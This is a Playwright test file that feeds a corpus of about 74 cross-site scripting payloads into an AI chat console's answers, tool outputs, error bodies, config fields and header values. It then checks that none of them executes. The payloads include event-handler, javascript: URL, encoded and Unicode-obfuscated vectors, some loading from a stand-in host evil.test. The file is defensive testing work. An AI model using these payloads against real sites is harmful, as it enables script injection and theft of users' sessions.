// An XSS corpus through every channel where a server's or a config's text reaches the page: answers, the
// question, thoughts, tool outputs (text, markdown, JSON), tool images, error bodies and a response header,
// assistant and workflow names, config fields, header values. Every vector tries to set window.__xss or
// open a dialog. Detectors: the sentinel, page dialogs, CSP violations (the csp fixture) and requests to any
// host but localhost; a positive control proves each detector fires.
import type { Page, Request } from '@playwright/test';
import { expect, test } from './csp';
import {
  addHeader,
  answerLogout,
  ask,
  headerAssistants,
  lastStatus,
  lastTurn,
  openChat,
  openHeaders,
  openWorkflows,
  pickAssistant,
  signIn,
} from './support';

const set = (n: number) => `window.__xss=${n}`;

/** At least 60 vectors; each sets the sentinel to its own number, or calls alert with it. */
const vectors: string[] = [
  `<script>${set(1)}</script>`,
  `<img src=x onerror="${set(2)}">`,
  `<svg onload="${set(3)}">`,
  `<svg><script>${set(4)}</script></svg>`,
  `<iframe src="javascript:parent.__xss=5"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>`,
  `<body onload=alert(7)>`,
  `<a href="javascript:${set(8)}">click 8</a>`,
  `[click 9](javascript:${set(9)})`,
  `[click 10](JaVaScRiPt:${set(10)})`,
  `[click 11](<  javascript:${set(11)}>)`,
  `[click 12](java&#115;cript:${set(12)})`,
  `[click 13](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${set(13)})`,
  `[click 14](javascript&colon;${set(14)})`,
  `[click 15](<java\tscript:${set(15)}>)`,
  `[click 16](<javascript:${set(16)}>)`,
  `[click 17](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTc8L3NjcmlwdD4=)`,
  `[click 18](vbscript:msgbox(18))`,
  `[click 19](VBScript:${set(19)})`,
  `[click 20][r20]\n\n[r20]: javascript:${set(20)}`,
  `[click 21][r21]\n\n[r21]: <javascript:${set(21)}> "title 21"`,
  `[r22]\n\n[r22]: data:text/html,<script>parent.__xss=22</script>`,
  `<javascript:${set(23)}>`,
  `<vbscript:msgbox(24)>`,
  `<data:text/html,<script>alert(25)</script>>`,
  `![img 26](javascript:${set(26)})`,
  `![img 27](x" onerror="${set(27)})`,
  `![img 28](http://evil.test/28.png)`,
  `[![img 29](x)](javascript:${set(29)})`,
  `<img src="http://evil.test/30.png">`,
  `<link rel=stylesheet href="http://evil.test/31.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${set(32)}">`,
  `<object data="javascript:${set(33)}"></object>`,
  `<embed src="javascript:${set(34)}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${set(35)}">`,
  `<details open ontoggle="${set(36)}">`,
  `<video><source onerror="${set(37)}"></video>`,
  `<input autofocus onfocus="${set(38)}">`,
  `<form action="javascript:${set(39)}"><button>go 39</button></form>`,
  `<base href="javascript:${set(40)}//">`,
  `"><script>${set(41)}</script>`,
  `'><img src=x onerror=${set(42)}>`,
  `</textarea><script>${set(43)}</script>`,
  `</title><script>${set(44)}</script>`,
  `<style>@import 'http://evil.test/45.css';</style>`,
  `<div style="background:url(http://evil.test/46.png)">46</div>`,
  `&lt;script&gt;${set(47)}&lt;/script&gt;`,
  `&#60;img src=x onerror=${set(48)}&#62;`,
  `\\u003cscript\\u003e${set(49)}\\u003c/script\\u003e`,
  `<scr<script>ipt>${set(50)}</scr</script>ipt>`,
  `<SCRIPT SRC=http://evil.test/51.js></SCRIPT>`,
  `<img src=x onerror=&#119;indow.__xss=52>`,
  `[\u202Egnp.exe https://good.example](javascript:${set(53)})`,
  `[click 54](jav\u200Bascript:${set(54)})`,
  `[click 55](\u0001javascript:${set(55)})`,
  `[https://good.example](https://evil.test/56)`,
  `<a href="&#x6A;avascript:${set(57)}">57</a>`,
  `[click 58](javascript://%0Awindow.__xss=58)`,
  `[click 59](javascript:%61lert(59))`,
  `<svg><a xlink:href="javascript:${set(60)}"><text>60</text></a></svg>`,
  `<svg><animate onbegin="${set(61)}" attributeName=x dur=1s>`,
  `<marquee onstart="${set(62)}">62</marquee>`,
  `<isindex type=image src=1 onerror=${set(63)}>`,
  `<noscript><p title="</noscript><img src=x onerror=${set(64)}>">`,
  `<div>\n\n**bold 65** <img src=x onerror=${set(65)}>\n\n</div>`,
  '```html\n<script>window.__xss=66</script>\n```',
  `{{constructor.constructor('${set(67)}')()}}`,
  '${window.__xss=68}',
  `javascript:${set(69)}`,
  `www.evil.test/70`,
  `[click 71](file:///etc/passwd)`,
  `<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDcyKSIvPg==">72</a>`,
  `\u2066<img src=x onerror=${set(73)}>\u2069 \u202Dtext\u202C`,
  `[click 74](  \n javascript:${set(74)})`,
];

/** What the page must never do while the corpus is shown. */
function detectors(page: Page) {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss().catch(() => undefined);
  });
  const watchRequest = (request: Request) => {
    const host = new URL(request.url()).hostname;
    if (/^https?:$/.test(new URL(request.url()).protocol) && host !== 'localhost') foreign.push(request.url());
  };
  page.on('request', watchRequest);
  return {
    dialogs,
    foreign,
    sentinel: () => page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss ?? null),
    /** Nothing ran, nothing left, and the DOM holds no live markup from the corpus. */
    async expectNothingRan() {
      expect(await this.sentinel(), 'window.__xss was set by a payload').toBeNull();
      expect(dialogs, 'dialogs opened by a payload').toEqual([]);
      expect(foreign, 'requests to hosts other than localhost').toEqual([]);
      const live = await page.evaluate(() => {
        const found: string[] = [];
        for (const element of Array.from(document.body.querySelectorAll('*'))) {
          for (const attribute of Array.from(element.attributes)) {
            if (/^on/i.test(attribute.name)) found.push(`${element.tagName} ${attribute.name}`);
            if (/^(href|src|action|formaction|xlink:href|data|srcdoc)$/i.test(attribute.name)) {
              // What a browser would use: control and whitespace characters are ignored in a scheme.
              const squeezed = attribute.value
                .replace(/[\p{Cc}\s\u200B-\u200F\u202A-\u202E\u2066-\u2069]/gu, '')
                .toLowerCase();
              if (/^(javascript|vbscript|data:text|file):/.test(squeezed) || attribute.name.toLowerCase() === 'srcdoc')
                found.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
            }
          }
          if (/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|META|LINK|FRAME|APPLET)$/.test(element.tagName))
            found.push(element.tagName);
        }
        return found;
      });
      expect(live, 'live markup from the corpus in the page').toEqual([]);
    },
  };
}

const corpus = vectors.join('\n\n');

test('the corpus has at least 60 vectors, each with its own sentinel', () => {
  expect(vectors.length).toBeGreaterThanOrEqual(60);
});

test.describe('XSS corpus', () => {
  test.beforeEach(async ({ page }) => {
    await signIn(page, 'analyst');
  });

  test('through the answer, the question, thought names, messages and inputs, tool outputs and tool images', async ({
    page,
    csp,
  }) => {
    const watch = detectors(page);
    await pickAssistant(page, 'Fault Injector');
    await ask(page, `echo: ${corpus}`);
    await expect(lastStatus(page)).toHaveText('Completed', { timeout: 30_000 });
    const thoughts = lastTurn(page).getByRole('region', { name: 'Thoughts' });
    if ((await thoughts.getByRole('button', { name: 'Expand all' }).count()) === 0)
      await thoughts.locator('.thoughts-summary').click();
    await thoughts.getByRole('button', { name: 'Expand all' }).click();
    await expect(thoughts.getByText('echo_json').first()).toBeVisible();
    // The corpus reads as text where it is shown as text (the question), and nowhere runs.
    await expect(lastTurn(page)).toContainText(`<script>${set(1)}</script>`);
    await expect(lastTurn(page).getByTestId('answer-text')).toContainText('click 9');
    await watch.expectNothingRan();
    expect(csp.violations).toEqual([]);
  });

  test('through error bodies (message, details, help) and a response header (the request id)', async ({
    page,
    csp,
  }) => {
    const watch = detectors(page);
    await pickAssistant(page, 'Fault Injector');
    await ask(page, `echo error: ${corpus}`);
    const alert = lastTurn(page).getByRole('alert');
    await expect(alert).toContainText(`<svg onload="${set(3)}">`, { timeout: 20_000 });
    await watch.expectNothingRan();
    expect(csp.violations).toEqual([]);
  });

  test('through assistant names and descriptions, and workflow names, descriptions and start hints', async ({
    page,
    csp,
  }) => {
    const watch = detectors(page);
    let next = 0;
    const vector = () => vectors[next++ % vectors.length] ?? '';
    const poison = (item: Record<string, unknown>) => ({
      ...item,
      name: `${vector()} ${String(item['name'])}`,
      description: vector(),
      icon_url: `javascript:${set(99)}`,
      start_hint: vector(),
    });
    await page.route(/\/v1\/(assistants|workflows)(\?|$|\/id\/)/, async (route) => {
      const body = (await (await route.fetch()).json()) as Record<string, unknown>;
      const data = body['data'];
      await route.fulfill({
        contentType: 'application/json',
        body: JSON.stringify(Array.isArray(data) ? { ...body, data: data.map(poison) } : poison(body)),
      });
    });
    await page.reload();
    await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
    await page.getByRole('button', { name: 'Show list Assistant' }).click();
    await expect(page.getByRole('option').first()).toContainText('<');
    await page.getByRole('option', { name: /General Assistant/ }).click();
    await ask(page, 'Hello from the poisoned catalog');
    await expect(lastStatus(page)).toHaveText('Completed', { timeout: 20_000 });
    await openWorkflows(page);
    await page.getByRole('button', { name: 'Show list Workflow' }).click();
    await page.getByRole('option', { name: /Summarize document/ }).click();
    await expect(page.locator('.launch-form h2')).toContainText('Summarize document');
    await watch.expectNothingRan();
    await openChat(page);
    await watch.expectNothingRan();
    expect(csp.violations).toEqual([]);
  });

  test('through config fields: the provider name, fallback assistants, and the errors a bad config shows', async ({
    page,
    csp,
  }) => {
    const watch = detectors(page);
    await page.route('**/config.json', async (route) => {
      const config = (await (await route.fetch()).json()) as { auth: { oidc: Record<string, unknown> } } & Record<
        string,
        unknown
      >;
      const assistants = vectors.slice(0, 20).map((name, index) => ({
        id: `f${index}000000-0000-4000-8000-000000000000`,
        name,
        description: vectors[index + 20] ?? '',
      }));
      await route.fulfill({
        contentType: 'application/json',
        body: JSON.stringify({
          ...config,
          auth: { ...config.auth, oidc: { ...config.auth.oidc, providerName: vectors.slice(0, 10).join(' ') } },
          fallbacks: { assistants, models: [], workflows: [] },
        }),
      });
    });
    await page.reload();
    await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
    await watch.expectNothingRan();
    // Sign-out shows the sign-in page for a moment, goes through the provider and comes back: the checks wait
    // for the page the provider sends back, not the one about to be left (its context would vanish mid-check).
    let leftForProvider = false;
    page.on('request', (request) => {
      if (request.url().includes('/protocol/openid-connect/logout')) leftForProvider = true;
    });
    const consoleOrigin = new URL(page.url()).origin;
    const cameBack = page.waitForEvent(
      'framenavigated',
      (frame) => frame === page.mainFrame() && leftForProvider && new URL(frame.url()).origin === consoleOrigin,
    );
    // The provider may ask, as Keycloak does; its page is its own (no console script there to watch).
    await answerLogout(page, consoleOrigin, () => page.getByRole('button', { name: 'Sign out', exact: true }).click());
    await cameBack;
    await page.waitForLoadState('load');
    await expect(page.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible();
    await expect(page.getByText('<script>', { exact: false }).first()).toBeVisible();
    await watch.expectNothingRan();

    await page.unroute('**/config.json');
    await page.route('**/config.json', (route) =>
      route.fulfill({
        contentType: 'application/json',
        body: JSON.stringify({
          apiBaseUrl: `<img src=x onerror=${set(90)}>`,
          traceUrlTemplate: `javascript:${set(91)}`,
          auth: { allowAccessTokenPaste: `<svg onload=alert(92)>` },
          [`<img src=x onerror=${set(93)}>`]: 1,
        }),
      }),
    );
    await page.reload();
    await expect(page.getByRole('alert')).toContainText('<svg onload=alert(92)>');
    await watch.expectNothingRan();
    expect(csp.violations).toEqual([]);
  });

  test('through header values: typed, previewed, sent, received by the tool server and shown side by side', async ({
    page,
    csp,
  }) => {
    const watch = detectors(page);
    await openHeaders(page);
    await page.getByLabel('Profile name').fill(`<img src=x onerror=${set(80)}>`);
    await addHeader(page, 'X-Xss-One', `<script>${set(81)}</script>`);
    await addHeader(page, 'X-Xss-Two', `"><svg onload=alert(82)> javascript:${set(83)}`);
    await openChat(page);
    await pickAssistant(page, headerAssistants.inspector.name);
    await ask(page, 'Which headers reached you?');
    await expect(lastStatus(page)).toHaveText('Completed', { timeout: 20_000 });
    await expect(lastTurn(page)).toContainText(`<script>${set(81)}</script>`);
    await watch.expectNothingRan();
    expect(csp.violations).toEqual([]);
  });
});

test('positive control: each detector fires when something does run or leave', async ({ page, csp }) => {
  await signIn(page, 'analyst');
  const watch = detectors(page);
  await page.evaluate(() => {
    (window as unknown as { __xss?: unknown }).__xss = 'control';
  });
  expect(await watch.sentinel()).toBe('control');
  await page.evaluate(() => alert('control'));
  expect(watch.dialogs).toEqual(['alert: control']);
  // An inline script, as an injection would add it: the CSP refuses it, and the monitor sees the refusal.
  csp.expectViolations();
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__xss = "inline"';
    document.body.append(script);
  });
  await expect.poll(() => csp.violations.length).toBeGreaterThan(0);
  expect(await watch.sentinel()).toBe('control');
  const live = await page.evaluate(() => document.body.querySelectorAll('script').length);
  expect(live).toBe(1);
  // A request to another host (a navigation: CSP does not stop it, the request detector must).
  await page.goto('http://127.0.0.1:4173/').catch(() => undefined);
  expect(watch.foreign.some((url) => url.startsWith('http://127.0.0.1:4173/'))).toBe(true);
});
